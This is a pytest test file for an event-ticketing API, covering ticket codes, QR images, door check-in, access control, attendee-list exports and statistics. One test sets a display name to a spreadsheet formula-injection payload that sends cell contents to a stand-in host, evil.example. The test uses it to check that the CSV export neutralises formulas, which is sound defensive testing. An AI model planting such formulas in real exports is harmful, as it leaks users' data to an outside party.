"""Tickets, QR codes, check-in at the door and the organizer's attendee list."""

import csv
import io
import json
import struct
import uuid

import pytest
from sqlalchemy import select

from kijani.events.models import Event
from kijani.extensions import db
from kijani.registrations.codes import ALPHABET, new_ticket_code, normalize_ticket_code
from kijani.registrations.models import Ticket
from tests.factories import create_event
from tests.helpers import assert_error


@pytest.fixture
def setup(app, client, make_user, auth_headers):
    """An event with one attendee holding two tickets."""
    organizer = make_user(role="organizer")
    attendee = make_user(username="tendai")
    event_id = create_event(app, organizer, capacity=10)
    headers = auth_headers(attendee)
    registration = client.post(f"/api/v1/events/{event_id}/registrations", json={"quantity": 2},
                               headers=headers).json
    return {"organizer": organizer, "org_headers": auth_headers(organizer), "attendee": attendee,
            "headers": headers, "event_id": event_id, "registration": registration,
            "codes": [t["code"] for t in registration["tickets"]]}


def test_ticket_codes_are_random_readable_and_40_bits():
    codes = {new_ticket_code() for _ in range(2000)}
    assert len(codes) == 2000
    assert len(ALPHABET) == 32 and not set("01OI") & set(ALPHABET)
    assert all(len(code.replace("-", "")) == 10 for code in codes)  # KJ + 8 symbols of 5 bits
    assert normalize_ticket_code("kj 7f3k 9qxa") == "KJ-7F3K-9QXA"
    assert normalize_ticket_code("nonsense") is None


def test_ticket_owner_sees_the_ticket(client, setup):
    code = setup["codes"][0]
    response = client.get(f"/api/v1/tickets/{code}", headers=setup["headers"])
    assert response.status_code == 200
    body = response.json
    assert body["code"] == code and body["checked_in_at"] is None
    assert body["registration_status"] == "confirmed"
    assert body["event"]["id"] == setup["event_id"]
    assert body["attendee"]["username"] == "tendai"
    assert "email" not in json.dumps(body)


def test_event_owner_and_admin_see_tickets_others_get_404(client, setup, make_user, auth_headers):
    code = setup["codes"][0]
    assert client.get(f"/api/v1/tickets/{code}", headers=setup["org_headers"]).status_code == 200
    admin = auth_headers(make_user(role="admin"))
    assert client.get(f"/api/v1/tickets/{code}", headers=admin).status_code == 200
    for stranger in (make_user(), make_user(role="organizer")):
        assert_error(client.get(f"/api/v1/tickets/{code}", headers=auth_headers(stranger)), 404)
        assert_error(client.get(f"/api/v1/tickets/{code}/qr.png", headers=auth_headers(stranger)), 404)
    assert_error(client.get("/api/v1/tickets/KJ-2222-2222", headers=admin), 404)


def test_qr_code_is_a_png(client, setup):
    response = client.get(f"/api/v1/tickets/{setup['codes'][0]}/qr.png", headers=setup["headers"])
    assert response.status_code == 200
    assert response.mimetype == "image/png"
    assert response.data[:8] == b"\x89PNG\r\n\x1a\n"
    width, height = struct.unpack(">II", response.data[16:24])  # the IHDR chunk
    assert width == height >= 100


def test_check_in_marks_the_ticket_once(client, app, setup):
    code = setup["codes"][0]
    url = f"/api/v1/events/{setup['event_id']}/check-in"
    first = client.post(url, json={"code": code}, headers=setup["org_headers"])
    assert first.status_code == 200
    assert first.json["code"] == code and first.json["checked_in_at"]
    assert first.json["attendee"]["username"] == "tendai"
    again = client.post(url, json={"code": code}, headers=setup["org_headers"])
    body = assert_error(again, 409)
    assert first.json["checked_in_at"][:19] in body["message"]
    with app.app_context():
        assert db.session.get(Event, uuid.UUID(setup["event_id"])).checked_in_count == 1


def test_retried_scan_with_the_same_nonce_gets_the_first_answer(client, setup):
    code = setup["codes"][0]
    url = f"/api/v1/events/{setup['event_id']}/check-in"
    first = client.post(url, json={"code": code, "nonce": "scan-1"}, headers=setup["org_headers"])
    retry = client.post(url, json={"code": code, "nonce": "scan-1"}, headers=setup["org_headers"])
    assert first.status_code == retry.status_code == 200
    assert first.json == retry.json
    other = client.post(url, json={"code": code, "nonce": "scan-2"}, headers=setup["org_headers"])
    assert_error(other, 409)


def test_check_in_accepts_a_typed_code(client, setup):
    typed = setup["codes"][1].lower().replace("-", " ")
    response = client.post(f"/api/v1/events/{setup['event_id']}/check-in", json={"code": typed},
                           headers=setup["org_headers"])
    assert response.status_code == 200 and response.json["code"] == setup["codes"][1]


def test_unknown_code_or_another_events_code_is_404(client, app, setup):
    url = f"/api/v1/events/{setup['event_id']}/check-in"
    assert_error(client.post(url, json={"code": "KJ-2222-2222"}, headers=setup["org_headers"]), 404)
    other_event = create_event(app, setup["organizer"])
    response = client.post(f"/api/v1/events/{other_event}/check-in", json={"code": setup["codes"][0]},
                           headers=setup["org_headers"])
    assert_error(response, 404)


def test_cancelled_registrations_ticket_is_409(client, setup):
    client.post(f"/api/v1/registrations/{setup['registration']['id']}/cancel", headers=setup["headers"])
    response = client.post(f"/api/v1/events/{setup['event_id']}/check-in", json={"code": setup["codes"][0]},
                           headers=setup["org_headers"])
    body = assert_error(response, 409)
    assert "cancelled" in body["message"]


def test_only_owner_or_admin_check_in(client, setup, make_user, auth_headers):
    url = f"/api/v1/events/{setup['event_id']}/check-in"
    assert_error(client.post(url, json={"code": setup["codes"][0]}, headers=setup["headers"]), 403)
    assert_error(client.post(url, json={"code": setup["codes"][0]},
                             headers=auth_headers(make_user(role="organizer"))), 403)
    assert_error(client.post(url, json={"code": setup["codes"][0]}), 401)
    admin = auth_headers(make_user(role="admin"))
    assert client.post(url, json={"code": setup["codes"][0]}, headers=admin).status_code == 200


def test_attendee_list_json(client, app, setup, make_user, auth_headers):
    waiting_headers = auth_headers(make_user(username="zawadi"))
    client.post(f"/api/v1/events/{setup['event_id']}/registrations", json={"quantity": 9},
                headers=waiting_headers)
    response = client.get(f"/api/v1/events/{setup['event_id']}/attendees", headers=setup["org_headers"])
    assert response.status_code == 200
    assert [(a["user"]["username"], a["status"], a["quantity"]) for a in response.json] == \
        [("tendai", "confirmed", 2), ("zawadi", "waitlisted", 9)]
    assert len(response.json[0]["tickets"]) == 2
    assert "email" not in response.get_data(as_text=True)
    assert json.loads(response.headers["X-Pagination"])["total"] == 2
    waitlisted = client.get(f"/api/v1/events/{setup['event_id']}/attendees?status=waitlisted",
                            headers=setup["org_headers"]).json
    assert [a["user"]["username"] for a in waitlisted] == ["zawadi"]


def test_attendee_list_csv(client, setup):
    client.post(f"/api/v1/events/{setup['event_id']}/check-in", json={"code": setup["codes"][0]},
                headers=setup["org_headers"])
    for kwargs in ({"query_string": {"format": "csv"}}, {"headers": {"Accept": "text/csv"}}):
        headers = {**setup["org_headers"], **kwargs.pop("headers", {})}
        response = client.get(f"/api/v1/events/{setup['event_id']}/attendees", headers=headers, **kwargs)
        assert response.status_code == 200
        assert response.mimetype == "text/csv"
        assert "attachment" in response.headers["Content-Disposition"]
        rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
        assert len(rows) == 1
        assert rows[0]["username"] == "tendai" and rows[0]["status"] == "confirmed"
        assert rows[0]["checked_in"] == "1"
        assert set(rows[0]["ticket_codes"].split()) == set(setup["codes"])


def test_attendee_list_is_for_owner_and_admin_only(client, setup, make_user, auth_headers):
    url = f"/api/v1/events/{setup['event_id']}/attendees"
    assert_error(client.get(url, headers=setup["headers"]), 403)
    assert_error(client.get(url, headers=auth_headers(make_user(role="organizer"))), 403)
    assert_error(client.get(url), 401)
    assert client.get(url, headers=auth_headers(make_user(role="admin"))).status_code == 200


def test_attendee_list_runs_a_fixed_number_of_statements(client, app, setup, make_user, auth_headers,
                                                         count_statements):
    url = f"/api/v1/events/{setup['event_id']}/attendees?page_size=100"
    with count_statements() as few:
        client.get(url, headers=setup["org_headers"])
    for _ in range(6):
        client.post(f"/api/v1/events/{setup['event_id']}/registrations", json={"quantity": 1},
                    headers=auth_headers(make_user()))
    with count_statements() as many:
        assert len(client.get(url, headers=setup["org_headers"]).json) == 7
    assert len(many) == len(few)


def test_tickets_are_stored_with_their_event(app, setup):
    with app.app_context():
        tickets = db.session.scalars(select(Ticket)).all()
        assert {str(t.event_id) for t in tickets} == {setup["event_id"]}


def test_stats_report_real_figures(client, app, setup, make_user, auth_headers):
    client.post(f"/api/v1/events/{setup['event_id']}/check-in", json={"code": setup["codes"][0]},
                headers=setup["org_headers"])
    leaver = auth_headers(make_user())
    gone = client.post(f"/api/v1/events/{setup['event_id']}/registrations", json={"quantity": 1},
                       headers=leaver).json
    client.post(f"/api/v1/registrations/{gone['id']}/cancel", headers=leaver)
    client.post(f"/api/v1/events/{setup['event_id']}/registrations", json={"quantity": 9},
                headers=auth_headers(make_user()))
    response = client.get(f"/api/v1/events/{setup['event_id']}/stats", headers=setup["org_headers"])
    assert response.status_code == 200
    stats = response.json
    assert (stats["seats_taken"], stats["seats_remaining"], stats["waitlist_count"]) == (2, 8, 1)
    assert stats["checked_in_count"] == 1 and stats["cancellations"] == 1
    assert stats["registrations"] == {"confirmed": 1, "waitlisted": 1, "offered": 0, "cancelled": 1,
                                      "expired": 0}
    [today] = stats["registrations_per_day"]
    assert (today["count"], today["cancellations"]) == (3, 1)
    assert_error(client.get(f"/api/v1/events/{setup['event_id']}/stats", headers=setup["headers"]), 403)


def test_csv_neutralises_spreadsheet_formulas(client, app, setup):
    from kijani.auth.models import User

    with app.app_context():
        user = db.session.get(User, uuid.UUID(setup["attendee"]["id"]))
        user.display_name = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
        db.session.commit()
    response = client.get(f"/api/v1/events/{setup['event_id']}/attendees?format=csv", headers=setup["org_headers"])
    [row] = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    assert row["display_name"].startswith("'=")


def test_attendee_list_has_an_etag(client, setup):
    url = f"/api/v1/events/{setup['event_id']}/attendees"
    first = client.get(url, headers=setup["org_headers"])
    assert first.headers.get("ETag")
    assert client.get(url, headers={**setup["org_headers"], "If-None-Match": first.headers["ETag"]}
                      ).status_code == 304
